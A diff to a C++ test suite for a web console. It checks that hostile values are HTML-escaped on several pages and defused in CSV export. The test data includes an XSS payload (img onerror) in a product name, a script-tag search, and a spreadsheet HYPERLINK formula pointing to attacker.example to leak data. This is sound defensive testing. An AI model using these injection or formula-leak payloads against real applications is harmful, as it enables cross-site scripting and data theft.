@@ -669,6 +669,10 @@ TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
                                       "=HYPERLINK(&quot;http://attacker.example/?leak&quot;,&quot;Open&quot;)"}) {
         EXPECT_NE(machinePage.find(escaped), std::string::npos) << escaped << " shown escaped";
     }
+    // The product name, next to the model in the heading and in the list.
+    const std::string product = "<span class=\"product\"><bdi>&quot;&gt;&lt;img src=x onerror=window.__gravelinPwned=8&gt;</bdi></span>";
+    EXPECT_NE(machinePage.find(product + "</h1>"), std::string::npos);
+    EXPECT_NE(console_(request("GET", "/machines?q=javascript", cookie)).body.find(product), std::string::npos);
     // Searching for the hostile value finds it and shows it escaped in the search box.
     const Response search = console_(request("GET", "/machines?q=%3Cscript%3E", cookie));
     EXPECT_NE(search.body.find("value=\"&lt;script&gt;\""), std::string::npos);
